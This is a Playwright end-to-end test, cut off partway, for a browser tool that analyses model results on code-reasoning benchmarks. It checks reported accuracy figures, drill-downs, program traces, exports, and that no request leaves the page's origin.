// End to end: serves the built dist/ on 127.0.0.1, drives Debian's Chromium with playwright-core
// (no browser download), serves it under a sub-path as GitHub Pages does, drags real result folders onto the page, picks folders and drops a .zip as a user would, reads the
// numbers off the page, opens a drill-down, and checks that no request left the page's origin.
// Screenshots go to tests/e2e/out/. Prints "N passed, M failed"; exits non-zero on a failure.
import fs from 'node:fs';
import http from 'node:http';
import os from 'node:os';
import path from 'node:path';
import { execFileSync } from 'node:child_process';
import { fileURLToPath } from 'node:url';
import { serve } from '../../tools/serve.mjs';
import { launchChromium } from './chromium.mjs';

const here = path.dirname(fileURLToPath(import.meta.url));
const root = path.resolve(here, '../..');
// playwright-core is installed with the other node tools (tools/install.sh).
const out = path.join(here, 'out');
fs.mkdirSync(out, { recursive: true });
const fixtures = path.resolve(process.env.EXERSCOPE_FIXTURES ?? path.join(root, '../shared/fixtures'));
if (!fs.existsSync(path.join(fixtures, 'README.md'))) {
  if (process.env.CI === 'true') throw new Error(`fixtures not found at ${fixtures}`);
  console.log(`skipping the end-to-end test: fixtures not found at ${fixtures} (set EXERSCOPE_FIXTURES)`);
  process.exit(0);
}

// Served as GitHub Pages serves a project: under a sub-path, so every asset, worker and Pyodide
// file must be found relative to the page.
const BASE = '/exerscope/';
const server = await serve(path.join(root, 'dist'), 0, BASE);
// The command line, for the numbers the page must show too.
const cli = ['release', 'debug'].map((profile) => path.join(root, 'target', profile, 'exerscope')).find(fs.existsSync);
const origin = `http://127.0.0.1:${server.address().port}`;
const browser = await launchChromium(['--disable-quic']);
// The offline copy (a service worker) is checked in a context of its own; here every request is seen.
const context = await browser.newContext({ viewport: { width: 1280, height: 1000 }, serviceWorkers: 'block' });
const foreign = [];
/** Every URL the page and its workers asked for, in order. */
const requested = [];
await context.route('**/*', (route) => {
  const url = route.request().url();
  requested.push(url);
  if (url.startsWith(origin) || url.startsWith('data:') || url.startsWith('blob:')) return route.continue();
  foreign.push(url);
  return route.abort();
});
const page = await context.newPage();
const pageErrors = [];
page.on('pageerror', (e) => pageErrors.push(String(e)));
page.on('console', (m) => { if (m.type() === 'error') pageErrors.push(m.text()); });
const missing = [];
page.on('response', (r) => { if (r.status() >= 400) missing.push(`${r.status()} ${r.url()}`); });
page.on('request', (r) => { if (!r.url().startsWith(origin) && !r.url().startsWith('data:')) foreign.push(r.url()); });

let passed = 0;
let failed = 0;
// EXERSCOPE_E2E_ONLY=<regex> runs only the matching checks (while working on one; most need none before them).
const only = process.env.EXERSCOPE_E2E_ONLY ? new RegExp(process.env.EXERSCOPE_E2E_ONLY) : null;
async function check(name, body) {
  if (only && !only.test(name)) return;
  try {
    await body();
    passed += 1;
    console.log(`ok - ${name}`);
  } catch (e) {
    failed += 1;
    console.log(`FAIL - ${name}: ${e.message}`);
    await page.screenshot({ path: path.join(out, `failed-${passed + failed}.png`), fullPage: true }).catch(() => {});
  }
}
function expectEqual(actual, expected, what) {
  if (JSON.stringify(actual) !== JSON.stringify(expected)) {
    throw new Error(`${what}: got ${JSON.stringify(actual)}, expected ${JSON.stringify(expected)}`);
  }
}
let finishedRuns = 0;
/** Waits for the next analysis to finish (the status counts finished runs in data-run). */
async function waitDone() {
  finishedRuns += 1;
  await page.waitForFunction((run) => {
    const status = document.querySelector('#status');
    return status.dataset.state === 'failed' || Number(status.dataset.run) >= run;
  }, finishedRuns, { timeout: 120000 });
  if (await page.$('#status[data-state="failed"]')) throw new Error(`analysis failed: ${await page.textContent('#status')}`);
}
async function overview() {
  return page.$$eval('#overview-table tbody tr', (rows) => rows.map((row) => {
    const cells = [...row.querySelectorAll('td')].map((td) => td.textContent.trim());
    return { model: cells[0], benchmark: cells[1], correct: Number(cells[3]), wrong: Number(cells[4]),
      missing: Number(cells[5]), total: Number(cells[6]) };
  }));
}
/** The overview's runs of every task of the drop, each task chosen in turn (the overview shows one). */
async function runsOfEveryTask() {
  await show('overview');
  const tasks = await page.$$eval('#task option', (options) => options.map((o) => o.value));
  const runs = [];
  for (const task of tasks.length ? tasks : [null]) {
    if (task) {
      await page.selectOption('#task', task);
      await page.waitForFunction((t) => document.querySelector('#overview-table tbody tr td:nth-child(3)')
        ?.textContent.trim() === t, task);
    }
    const rows = await page.$$eval('#overview-table tbody tr', (trs) => trs.map((row) =>
      [...row.querySelectorAll('td')].map((td) => td.textContent.trim())));
    runs.push(...rows.map((c) => ({ model: c[0], benchmark: c[1], task: c[2], correct: Number(c[3]), total: Number(c[6]) })));
  }
  return runs;
}
/** Opens a section of the report from the navigation, and waits for its statistics (the worker computes a view's when it opens). */
// The link's fragment once it has every part (the page writes it in a task after the view's).
async function linkWith(parts) {
  const has = () => parts.every((part) => new URL(page.url()).hash.includes(part));
  for (let waited = 0; !has(); waited += 50) {
    if (waited > 20000) throw new Error(`${parts.filter((part) => !new URL(page.url()).hash.includes(part))} not in the link ${page.url()}`);
    await page.waitForTimeout(50);
  }
  return new URL(page.url()).hash;
}

// Chromium drops a page's download when more than about ten came in the last few seconds (no
// event, no error; chromedp/chromedp#791): a user never clicks that fast, the checks do. One a
// second at most.
let lastDownload = 0;
/** The download `click` starts. */
async function download(click) {
  await page.waitForTimeout(Math.max(0, lastDownload + 1100 - Date.now()));
  const [started] = await Promise.all([page.waitForEvent('download'), click()]);
  lastDownload = Date.now();
  return started;
}

async function show(section) {
  // The status lines above the navigation change height as the programs' runs end: a click the
  // shift made miss is made again.
  for (let attempt = 1; ; attempt++) {
    await page.click(`#nav-${section}`);
    const opened = await page.waitForSelector(`.section[data-section="${section}"]:not([hidden])`, { timeout: 5000 })
      .then(() => true, () => false);
    if (opened) break;
    if (attempt === 3) throw new Error(`the ${section} section did not open`);
  }
  await page.waitForSelector(`.section[data-section="${section}"][aria-busy="false"]`);
}
/**
 * On a phone-wide window: whether the page scrolls sideways, naming the outermost elements or texts
 * past its edge that no scrolling box holds (empty when it fits). Saves a picture of it.
 */
async function sideways(what) {
  await page.waitForTimeout(300);
  const [width, culprits] = await page.evaluate(() => {
    const scrolls = (e) => ['auto', 'scroll', 'hidden'].includes(getComputedStyle(e).overflowX);
    const held = (e) => { for (let p = e.parentElement; p; p = p.parentElement) if (scrolls(p)) return true; return false; };
    const name = (e) => `${e.tagName.toLowerCase()}${e.id ? '#' + e.id : ''}${[...e.classList].map((c) => '.' + c).join('')}`;
    const right = (node) => { const r = document.createRange(); r.selectNodeContents(node); return r.getBoundingClientRect().right; };
    const past = [...document.querySelectorAll('body *')]
      .filter((e) => e.getBoundingClientRect().right > 392 && e.offsetParent !== null && !held(e) && !(e.parentElement.getBoundingClientRect().right > 392))
      .map((e) => `${name(e)} (${Math.round(e.getBoundingClientRect().right)})`);
    const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    for (let t = walker.nextNode(); t; t = walker.nextNode()) {
      if (t.parentElement.offsetParent !== null && right(t) > 392 && !held(t)) past.push(`"${t.textContent.slice(0, 40)}" in ${name(t.parentElement)}`);
    }
    return [document.documentElement.scrollWidth, past.slice(0, 4)];
  });
  await page.screenshot({ path: path.join(out, `phone-${what.replace(/\W+/g, '-')}.png`) });
  return width > 390 ? [`${what}: ${width} px (${culprits.join(', ')})`] : [];
}
function run(rows, model, benchmark) {
  const row = rows.find((r) => r.model === model && r.benchmark === benchmark);
  if (!row) throw new Error(`no overview row for ${model} on ${benchmark}`);
  return [row.correct, row.total];
}
/** Drags folders and files from disk onto the drop zone, as a user would (Chromium's own drag events). */
async function dragFromDisk(paths) {
  const zone = await page.$('#drop-zone');
  await zone.scrollIntoViewIfNeeded();
  const box = await zone.boundingBox();
  const cdp = await page.context().newCDPSession(page);
  const data = { items: [], files: paths, dragOperationsMask: 1 };
  const [x, y] = [box.x + box.width / 2, box.y + box.height / 2];
  for (const type of ['dragEnter', 'dragOver', 'drop']) await cdp.send('Input.dispatchDragEvent', { type, x, y, data });
  await cdp.detach();
}
/**
 * Drops real files on the drop zone: Playwright puts them in a scratch input, the page drops them
 * (after `beforeDrop()`).
 */
async function dropFiles(files, on = page, beforeDrop = () => {}) {
  await on.evaluate(() => {
    const input = document.createElement('input');
    input.type = 'file';
    input.multiple = true;
    input.id = 'scratch-input';
    input.style.display = 'none';
    document.body.append(input);
  });
  await on.setInputFiles('#scratch-input', files);
  beforeDrop();
  await on.evaluate(() => {
    const input = document.querySelector('#scratch-input');
    const transfer = new DataTransfer();
    for (const file of input.files) transfer.items.add(file);
    input.remove();
    const zone = document.querySelector('#drop-zone');
    zone.dispatchEvent(new DragEvent('dragover', { dataTransfer: transfer, bubbles: true, cancelable: true }));
    zone.dispatchEvent(new DragEvent('drop', { dataTransfer: transfer, bubbles: true, cancelable: true }));
  });
}

try {
  await page.goto(`${origin}${BASE}`);
  await page.waitForSelector('#drop-zone', { timeout: 30000 });

  await check('the demo loads and shows every model and benchmark', async () => {
    await page.click('#demo-button');
    await waitDone();
    const rows = await overview();
    expectEqual(rows.length, 6, 'demo overview rows');
    if (!rows.every((r) => r.model.includes('synthetic'))) throw new Error('demo models are not labelled synthetic');
    await page.waitForSelector('#overview-chart[data-drawn="true"]');
    await page.screenshot({ path: path.join(out, 'demo.png'), fullPage: true });
  });

  await check('the ExeRScope folders, dragged onto the page, give the reference numbers', async () => {
    await dragFromDisk([path.join(fixtures, 'exerscope/dataset'), path.join(fixtures, 'exerscope/Experiment_Results')]);
    await waitDone();
    const rows = await overview();
    const expected = {
      'gpt-4-turbo': { Avatar: [18, 24], classeval: [286, 400], cruxeval: [659, 800], humaneval: [144, 162] },
      'deepseek-coder-33b-instruct': { Avatar: [36, 86], classeval: [226, 400], cruxeval: [471, 800], humaneval: [89, 162] },
    };
    for (const [model, benchmarks] of Object.entries(expected)) {
      for (const [benchmark, counts] of Object.entries(benchmarks)) {
        expectEqual(run(rows, model, benchmark), counts, `${model} on ${benchmark}`);
      }
    }
    expectEqual(rows.find((r) => r.model === 'gpt-4-turbo' && r.benchmark === 'Avatar').missing, 62, 'missing Avatar');
    // With data shown, the drop zone is one line, its buttons kept; a button unfolds what can be dropped.
    const zoneHeight = async () => (await page.$eval('#drop-zone', (z) => z.getBoundingClientRect().height));
    if (await zoneHeight() > 80) throw new Error(`the drop zone with data shown is ${await zoneHeight()} px high`);
    if (await page.isVisible('#drop-zone .drop-hint')) throw new Error('the folded drop zone shows its hint');
    await page.click('#drop-more');
    await page.waitForSelector('#drop-zone .drop-hint', { state: 'visible' });
    await page.click('#drop-more');
    await page.waitForSelector('#drop-zone .drop-hint', { state: 'hidden' });
    // The overview's bar says it too, in its numbers: 24 answered of 86.
    await show('overview');
    await page.click('figure:has(#overview-chart) .figure-numbers summary');
    const avatarCells = () => page.$$eval('figure:has(#overview-chart) .figure-numbers tr',
      (rows) => rows.filter((r) => r.cells[0]?.textContent.trim() === 'Avatar').flatMap((r) => [...r.cells].map((c) => c.textContent.trim())));
    await page.waitForSelector('figure:has(#overview-chart) .figure-numbers tr td');
    if (!(await avatarCells()).some((text) => text.endsWith('n = 24, 62 of 86 missing'))) throw new Error(`overview numbers: ${await avatarCells()}`);
    await page.click('figure:has(#overview-chart) .figure-numbers summary');
    // So many loose files: the status tells of the faster way.
    const hint = await page.textContent('#zip-hint');
    if (!hint.includes('11,009 loose files') || !hint.includes('.zip')) throw new Error(`the zip hint: ${hint}`);
    await show('constructs');
    const anyDepth = await page.textContent(
      '#construct-table tr[data-model="gpt-4-turbo"][data-benchmark="cruxeval"] td[data-construct="nested_loop"]');
    if (!/^\d+\/\d+$/.test(anyDepth.trim())) throw new Error(`exerscope's nested loops: ${anyDepth}`);
    // The definitions switch redraws the section in view.
    await page.check('#reference-definitions');
    const nested = await page.textContent(
      '#construct-table tr[data-model="gpt-4-turbo"][data-benchmark="cruxeval"] td[data-construct="nested"]');
    expectEqual(nested.trim(), '13/17', 'nested loops of gpt-4-turbo on cruxeval');
    // The types pivot: a row per type, a column per model; value or type matches.
    await show('types');
    const dictionary = '#types-table tr[data-benchmark="cruxeval"][data-type="dictionary"]:not([data-length]) td[data-model="gpt-4-turbo"]';
    const dictionaries = [(await page.textContent(dictionary)).trim()];
    await page.selectOption('#types-cells', 'type');
    dictionaries.push((await page.textContent(dictionary)).trim());
    await page.selectOption('#types-cells', 'value');
    expectEqual(dictionaries, ['64/67', '67/67'], 'dictionary outputs of gpt-4-turbo on cruxeval (SPEC 4.5)');
    await page.waitForSelector('canvas.types-chart[data-figure="types-cruxeval-reference"][data-drawn="true"]', { state: 'attached' });
    // A pivot cell opens its programs: gpt-4-turbo's cruxeval programs whose expected output is a dictionary.
    await page.click(`${dictionary} button`);
    await page.waitForFunction(() => (document.querySelector('#drilldown h2')?.textContent ?? '').includes('of type dictionary'));
    expectEqual(await page.getAttribute('#drilldown-table', 'aria-rowcount'), String(67 + 1), 'programs expecting a dictionary');
    // Scrolled to, the drill-down's title shows below the sticky navigation, not under it.
    await page.waitForFunction(() => {
      const title = document.querySelector('#drilldown h2').getBoundingClientRect();
      const nav = document.querySelector('nav.sections').getBoundingClientRect();
      const bottom = window.scrollY + window.innerHeight >= document.documentElement.scrollHeight - 2;
      return title.top >= nav.bottom && (title.top < nav.bottom + 60 || bottom);
    }, null, { timeout: 5000 }).catch(async () => {
      const [title, nav] = await page.evaluate(() => ['#drilldown h2', 'nav.sections'].map((s) => document.querySelector(s).getBoundingClientRect().top));
      throw new Error(`the drill-down's title at ${title} px, the navigation at ${nav} px`);
    });
    await page.waitForFunction(() => document.querySelectorAll('canvas.radar[data-drawn="true"]').length === 4);
    await page.waitForSelector('#construct-bars[data-drawn="true"]', { state: 'attached' });
    // The with/without table is built once opened, its rows in view only.
    await show('constructs');
    expectEqual(await page.$$eval('#effects-table tbody tr', (r) => r.length), 0, 'effect rows while closed');
    await page.click('details.effects summary');
    await page.waitForSelector('#effects-table tbody tr[data-construct]');
    const effects = Number(await page.getAttribute('#effects-table', 'aria-rowcount')) - 1;
    if (effects < 40) throw new Error(`only ${effects} construct effect rows`);
    // A group's counts as the core has them: right of programs (the export once printed the total as wrong).
    const effectRows = await page.$$eval('#effects-table tbody tr[data-construct]', (rows) => rows.map((r) =>
      [r.dataset.model, r.dataset.benchmark, r.dataset.construct, r.cells[3].textContent.trim()]));
    const nestedAvatar = effectRows.find(([model, benchmark, construct]) =>
      model === 'deepseek-coder-33b-instruct' && benchmark === 'Avatar' && construct === 'nested');
    if (!nestedAvatar) throw new Error(`no effect row of deepseek-coder-33b-instruct, Avatar, nested among the first ${effectRows.length}`);
    expectEqual(nestedAvatar[3], '1/10 (10.0%)', 'deepseek-coder-33b-instruct on Avatar with a nested loop');
    await page.locator('#effects-table').scrollIntoViewIfNeeded();
    await page.screenshot({ path: path.join(out, 'construct-effects.png') });
    await page.click('details.effects summary');
    // Each section's statistics are computed when it opens.
    await show('properties');
    await page.waitForFunction(() => document.querySelectorAll('canvas.property-chart[data-drawn="true"]').length === 2);
    await show('models');
    const pooled = await page.$$eval('#comparison-table tbody tr[data-benchmark="*"] td', (c) => c.map((td) => td.textContent.trim()));
    // Both predicted 1,386 programs (all but deepseek's extra 62 Avatar ones).
    expectEqual(pooled.slice(3, 7).map(Number).reduce((a, b) => a + b, 0), 1386, 'programs both models predicted');
    await page.click('#comparison-table tbody tr[data-benchmark="*"] td:nth-child(5)');
    await page.waitForSelector('#drilldown-table tbody tr');
    // Every program is listed (only those in view are rendered).
    expectEqual(Number(await page.getAttribute('#drilldown-table', 'aria-rowcount')) - 1, Number(pooled[4]), 'programs only model A got right');
    await page.screenshot({ path: path.join(out, 'exerscope.png'), fullPage: true });
    // Where each model fails: each model's strongest slices, the honesty check beside them, and a
    // slice opens as many programs as its row counts. (The runs go on meanwhile and change the
    // properties the finder bins: the command line's list is not compared here.)
    await show('models');
    await page.waitForSelector('table.slices tbody tr');
    for (const model of ['gpt-4-turbo', 'deepseek-coder-33b-instruct']) {
      const rows = await page.$$eval(`table.slices[data-model="${model}"] tbody tr`, (r) => r.length);
      if (rows < 1 || rows > 10) throw new Error(`${rows} slices listed for ${model}`);
      const said = await page.textContent(`p.replication[data-model="${model}"]`);
      if (!/of the \d+ slices found on a random half of its programs, \d+ hold on the other half/.test(said)) {
        throw new Error(`the replication of ${model}: ${said}`);
      }
    }
    await page.locator('table.slices').first().scrollIntoViewIfNeeded();
    await page.screenshot({ path: path.join(out, 'slices.png') });
    const first = 'table.slices[data-model="gpt-4-turbo"] tbody tr:first-child';
    const [slice, counted] = [await page.getAttribute(first, 'data-slice'), await page.textContent(`${first} td:nth-child(2)`)];
    await page.click(`${first} button`);
    await page.waitForFunction(() => (document.querySelector('#drilldown h2')?.textContent ?? '').includes('slice'));
    expectEqual(Number(await page.getAttribute('#drilldown-table', 'aria-rowcount')) - 1, Number(counted.split(' of ')[1]),
      `the programs of ${slice}`);
    // Two models side by side: the matrix's pair seen from gpt-4-turbo (its counts swapped), a win
    // opening its program with both answers first, the link keeping the pair.
    await show('models');
    await page.selectOption('#pair-a', 'gpt-4-turbo');
    await page.selectOption('#pair-b', 'deepseek-coder-33b-instruct');
    await page.waitForSelector('#pair-summary[data-a="gpt-4-turbo"]');
    await linkWith(['compare=gpt-4-turbo%2Cdeepseek-coder-33b-instruct']);
    const pairCounts = await page.$$eval('#pair-counts tbody td', (c) => c.map((td) => Number(td.textContent.replace(/,/g, ''))));
    // The table's row has the pair in the drop's model order.
    const gptFirst = pooled[0] === 'gpt-4-turbo';
    const [gptWins, deepseekWins] = (gptFirst ? [pooled[4], pooled[5]] : [pooled[5], pooled[4]]).map(Number);
    expectEqual(pairCounts, [Number(pooled[3]), gptWins, deepseekWins, Number(pooled[6])], 'the pair\'s 2×2 table');
    const wins = page.locator('.pair-side[data-right="gpt-4-turbo"] .pair-programs button');
    expectEqual(await wins.count(), Math.min(200, gptWins), 'gpt-4-turbo\'s wins listed');
    await page.locator('#pair-view').scrollIntoViewIfNeeded();
    await page.screenshot({ path: path.join(out, 'pair.png') });
    const win = await wins.first().textContent();
    await wins.first().click();
    await page.waitForFunction((label) => document.querySelector('#program-view h2')?.textContent === label, win);
    const sides = await page.$$eval('#program-view article.prediction', (cards) => cards.slice(0, 2).map((c) => [c.dataset.side, c.dataset.model]));
    expectEqual(sides, [['A', 'gpt-4-turbo'], ['B', 'deepseek-coder-33b-instruct']], 'the pair\'s answers first');
    await page.screenshot({ path: path.join(out, 'pair-program.png') });
    await page.goBack();
    await page.waitForSelector('#pair-summary[data-a="gpt-4-turbo"]');
    await page.click('#pair-swap');
    await page.waitForSelector('#pair-summary[data-a="deepseek-coder-33b-instruct"]');
    await page.click('#pair-counts tbody tr:first-child td:nth-child(3) button');
    await page.waitForSelector('#drilldown-table tbody tr');
    expectEqual(Number(await page.getAttribute('#drilldown-table', 'aria-rowcount')) - 1, deepseekWins, 'deepseek right, gpt-4-turbo wrong');
    // The pair's table is among the exports, with the numbers shown.
    await show('exports');
    const exported = await download(() => page.click('#export-comparisons-csv'));
    const [header, row] = fs.readFileSync(await exported.path(), 'utf8').trim().split('\n').map((l) => l.split(','));
    expectEqual(header.slice(0, 7), ['model A', 'model B', 'task', 'both right', 'only A', 'only B', 'both wrong'], 'comparisons.csv');
    expectEqual(row.slice(0, 7), ['deepseek-coder-33b-instruct', 'gpt-4-turbo', 'output', pooled[3], String(deepseekWins),
      String(gptWins), pooled[6]], 'the pair exported');
  });

  await check('every program then runs on its own input: loop length charted as in the CLI, filters, the trace beside the answers', async () => {
    // The runs of the drop above go on after its static view (the page was usable meanwhile).
    await page.waitForSelector('#runs-status[data-state="done"]', { timeout: 600000 });
    expectEqual(await page.getAttribute('#runs-status', 'data-total'), '1772', 'runs: 1,448 programs and 324 extra HumanEval inputs');
    // Its Python workers end with the runs, but the one kept to trace the program opened above (the
    // pair's first win): it was started when the program opened.
    const pythons = () => page.workers().filter((worker) => worker.url().endsWith('/run_worker.js')).length;
    for (const waited = Date.now(); pythons() > 1; await page.waitForTimeout(100)) {
      if (Date.now() - waited > 20000) throw new Error(`${pythons()} Python workers left once the runs were done`);
    }
    await show('properties');
    await page.selectOption('#property-picker', 'loop_length');
    // The worker computes the correlations of the property chosen: the section waits for them.
    await page.waitForFunction(() => [...document.querySelectorAll('canvas.property-chart[data-figure^="property-loop_length"]')]
      .filter((chart) => /ρ over buckets -?[\d.]+/.test(chart.getAttribute('aria-description') ?? '')).length === 2);
    const subtitles = await page.$$eval('canvas.property-chart', (c) => c.map((e) => [e.dataset.figure, e.getAttribute('aria-description')]));
    // The reference's loop-length correlation over its buckets, from exerscope's own runs: the CLI's
    // numbers (crates/cli/tests/dynamic_properties.rs), within 0.1 of the paper's −0.8182 and −0.3697.
    const bucketRho = (model) => {
      const found = subtitles.find(([name]) => name === `property-loop_length-${model}`);
      return Number(/ρ over buckets (-?[\d.]+)/.exec(found?.[1] ?? '')?.[1]);
    };
    expectEqual([bucketRho('deepseek-coder-33b-instruct'), bucketRho('gpt-4-turbo')], [-0.77, -0.406], 'ρ over loop-length buckets');
    await page.screenshot({ path: path.join(out, 'loop-length.png'), fullPage: true });
    await show('programs');
    await page.selectOption('#program-outcome', '(not the expected output)');
    const unexpected = Number(await page.getAttribute('#program-table', 'aria-rowcount')) - 1;
    // (Runs that could not run here, missing numpy or sqlite3, are not among them: nothing is said.)
    if (unexpected < 30 || unexpected > 150) throw new Error(`${unexpected} programs do not return their expected output`);
    await page.selectOption('#program-outcome', 'could not run here');
    await page.waitForFunction(() => Number(document.querySelector('#program-table').getAttribute('aria-rowcount')) > 10
      && [...document.querySelectorAll('#program-table tbody tr[data-program]')].some((r) => r.dataset.program.startsWith('ClassEval_')));
    await page.selectOption('#program-outcome', 'raised RecursionError');
    await page.waitForSelector('#program-table tbody tr[data-program="HumanEval_10"]');
    await page.selectOption('#program-outcome', '');
    await page.fill('#program-filter', 'sample_0');
    await page.click('#program-table tbody tr[data-program="sample_0"]');
    await page.waitForFunction(() => (document.querySelector('#program-run')?.textContent ?? '').includes('loop length 7'));
    await page.click('#trace-program');
    await page.waitForSelector('#trace-view, #trace-failed', { timeout: 60000 });
    expectEqual(await page.getAttribute('#trace-view', 'data-steps'), '16', 'lines run by f([1, 1, 3, 1, 3, 1])');
    expectEqual(await page.$$eval('#trace-view li.loop > details > ol > li', (l) => l.length), 7, 'runs of the for header');
    const first = await page.textContent('#trace-view li.step');
    if (!first.includes('nums = [1, 1, 3, 1, 3, 1]')) throw new Error(`the first step shows no argument: ${first}`);
    // The wrong answer beside it, against the expected output by structure: whole list items
    // missing (not characters), and what the marks mean.
    const diff = '.prediction[data-model="deepseek-coder-33b-instruct"] pre.diff';
    await page.waitForSelector(`${diff} del`);
    expectEqual(await page.$$eval(`${diff} del`, (d) => d.map((e) => e.textContent)), ['(4, 1), (4, 1), (4, 1), (2, 3), '], 'items missing from the answer');
    await page.waitForSelector('.prediction[data-model="deepseek-coder-33b-instruct"] .diff-legend del');
    // Its raw response: left unread by the drop (only this view shows it), read when it opened.
    const response = await page.textContent('.prediction[data-model="deepseek-coder-33b-instruct"] pre.response');
    const onDisk = fs.readFileSync(path.join(fixtures, 'exerscope/Experiment_Results/ER/deepseek-coder-33b-instruct/cruxeval/sample_0/response.txt'), 'utf8');
    expectEqual(response, onDisk, 'the raw response, read when its program is shown');
    await page.$eval('#program-view', (e) => e.scrollIntoView());
    await page.screenshot({ path: path.join(out, 'trace.png'), fullPage: true });
    // What a response's prose claims, placed on the traced run: gpt-4-turbo has `index` run on to 8
    // where the run stops at 3 (the loop walks a copy of the list).
    await page.fill('#program-filter', 'sample_150');
    await page.click('#program-table tbody tr[data-program="sample_150"]');
    await page.waitForSelector('#program-view[data-program="sample_150"]');
    await page.click('#trace-program');
    const claims = '.prediction[data-model="gpt-4-turbo"] .prose-claims';
    await page.waitForSelector(`${claims} .alignment[data-ending="differs"]`, { timeout: 60000 });
    const divergence = await page.$$eval(`${claims} tr.first-divergence td`, (cells) => cells.map((c) => c.textContent.trim()));
    expectEqual([divergence[3], divergence[4], divergence[5]], ['index', '4', '3'], 'the first claim the run contradicts: variable, claimed, run');
    const words = await page.textContent(`${claims} .model-words`);
    if (!words.includes('`index` is incremented to 4')) throw new Error(`not its words at the divergence: ${words}`);
    await page.locator(claims).screenshot({ path: path.join(out, 'prose-claims.png') });
    // A second drop of the same benchmark takes its runs from this browser's cache.
    await dragFromDisk([path.join(fixtures, 'exerscope/dataset'), path.join(fixtures, 'exerscope/Experiment_Results')]);
    await waitDone();
    await page.waitForSelector('#runs-status[data-state="done"]', { timeout: 600000 });
    expectEqual(await page.getAttribute('#runs-status', 'data-kept'), '1772', 'runs taken from the cache');
  });

  await check('every table and the report leave the page as files that parse, with the numbers shown', async () => {
    const save = async (id) => {
      const file = await download(() => page.click(`#${id}`));
      return { name: file.suggestedFilename(), text: fs.readFileSync(await file.path(), 'utf8') };
    };
    await show('exports');
    const report = JSON.parse((await save('export-report-json')).text);
    // A run its Python stopped (ClassEval's sqlite3 is not in Pyodide) describes no program: its
    // counts are no dynamic property (dynamic.rs's tests), and it says why.
    const stopped = report.programs.filter((p) => p.properties.outcome === 'could not run here');
    if (!stopped.some((p) => p.id.startsWith('ClassEval_14@') && p.properties.got.includes('sqlite3'))) {
      throw new Error('no ClassEval_14 run said to need sqlite3');
    }
    const raised = report.programs.filter((p) => p.properties.outcome === 'raised ModuleNotFoundError'
      || (p.properties.outcome?.startsWith('raised') && /new thread/.test(p.properties.got)));
    expectEqual(raised.map((p) => p.id), [], 'runs stopped by what Pyodide lacks, counted as the programs\' own');
    const gpt = report.runs.find((r) => r.model === 'gpt-4-turbo' && r.benchmark === 'cruxeval');
    expectEqual([gpt.correct, gpt.total], [659, 800], 'gpt-4-turbo on cruxeval in the JSON report');
    expectEqual(report.programs.length, 1448, "every program's row in the JSON report (the page's facts give them)");
    if (!report.programs.some((p) => p.properties.loop_length !== undefined)) throw new Error('no dynamic property in the programs of the JSON report');
    // The methods paragraph says what the report holds, and its BibTeX has each work it cites.
    const paragraph = await page.textContent('#methods-paragraph');
    const programs = {};
    for (const r of report.runs) programs[r.benchmark] = Math.max(programs[r.benchmark] ?? 0, r.programs);
    const total = Object.values(programs).reduce((a, b) => a + b, 0).toLocaleString('en-US');
    const models = new Set(report.runs.map((r) => r.model)).size;
    const opening = `We analysed the output prediction answers of ${models} models on ${total} programs`;
    if (!paragraph.startsWith(opening)) throw new Error(`methods paragraph: ${paragraph.slice(0, 200)}, expected ${opening}`);
    const bib = (await save('export-references-bib')).text;
    const years = [...paragraph.matchAll(/, (\d{4})[;)]/g)].map((m) => m[1]);
    const entries = [...bib.matchAll(/^@\w+\{[a-z]+(\d{4}),/gm)].map((m) => m[1]);
    if (entries.length < 5) throw new Error(`references.bib: ${bib.slice(0, 300)}`);
    expectEqual([...new Set(years)].sort(), [...new Set(entries)].sort(), 'years cited in the paragraph and in its BibTeX');
    const csv = await save('export-runs-csv');
    expectEqual(csv.name, 'exerscope-runs.csv', 'CSV file name');
    const [header, ...lines] = csv.text.trim().split('\n').map((line) => line.split(','));
    const row = lines.find((cells) => cells[0] === 'gpt-4-turbo' && cells[1] === 'cruxeval');
    expectEqual([row[header.indexOf('correct')], row[header.indexOf('total')]], ['659', '800'], 'the runs CSV');
    // The slices, found once the runs are in (dynamic properties among their predicates), leave as
    // the report has them: each model's few strongest.
    const slices = (await save('export-slices-csv')).text.trim().split('\n');
    expectEqual(slices.length - 1, report.slices.length, 'slices in the CSV and the JSON report');
    for (const model of ['deepseek-coder-33b-instruct', 'gpt-4-turbo']) {
      const count = report.slices.filter((s) => s.model === model).length;
      if (count < 1 || count > 10) throw new Error(`${count} slices of ${model} in the report`);
    }
    // The slices the Models section lists are the report's, row for row (the runs are done: both
    // are built from the same facts).
    await show('models');
    for (const model of ['deepseek-coder-33b-instruct', 'gpt-4-turbo']) {
      const listed = await page.$$eval(`table.slices[data-model="${model}"] tbody tr`,
        (rows) => rows.map((r) => [r.dataset.slice, r.cells[1].textContent.trim()]));
      const reported = report.slices.filter((s) => s.model === model).map((s) => [s.slice, `${s.correct} of ${s.programs}`]);
      expectEqual(listed, reported, `the slices of ${model}, page and JSON report`);
    }
    // Success predicted on new code: the page's table is the report's, and each model's figure of
    // what makes code hard is drawn.
    const judged = await page.$$eval('table.predictability[data-task="output"] tbody tr',
      (rows) => rows.map((r) => [r.dataset.model, r.querySelector('td.auroc').textContent.trim()]));
    const reportedAuc = report.predictability.filter((p) => p.task === 'output').map((p) => [p.model, p.auroc.toFixed(3)]);
    expectEqual(judged, reportedAuc, 'AUROC per model, page and JSON report');
    // Each benchmark's forecast beside what the model's accuracy alone forecasts, as reported.
    const forecasts = await page.$$eval('table.forecasts[data-task="output"] tbody tr',
      (rows) => rows.map((r) => [r.dataset.model, r.dataset.benchmark, r.cells[3].textContent.trim(), r.cells[8].textContent.trim()]));
    const percent = (rate) => `${(rate * 100).toFixed(1)}%`;
    const reportedForecasts = report.benchmark_forecasts.filter((f) => f.task === 'output')
      .map((f) => [f.model, f.benchmark, percent(f.predicted), percent(f.accuracy_alone)]);
    expectEqual(forecasts, reportedForecasts, 'benchmark forecasts and accuracy alone, page and JSON report');
    // The folds are the command line's too, whatever order the browser read the files in: the
    // baselines, which use no property, are the same to the last digit.
    const exerscope = path.join(fixtures, 'exerscope');
    const cliReport = JSON.parse(execFileSync(cli, ['analyze', '--no-run', path.join(exerscope, 'dataset'),
      path.join(exerscope, 'Experiment_Results')], { maxBuffer: 1 << 30 }).toString());
    const baselines = (r) => r.predictability.map((p) => [p.model, p.baseline_auroc.toFixed(9), p.other_models_auroc.toFixed(9)]);
    expectEqual(baselines(report), baselines(cliReport), 'the baselines of the prediction, page and command line');
    await page.waitForFunction(() => document.querySelectorAll('canvas.coefficients[data-drawn="true"]').length === 2);
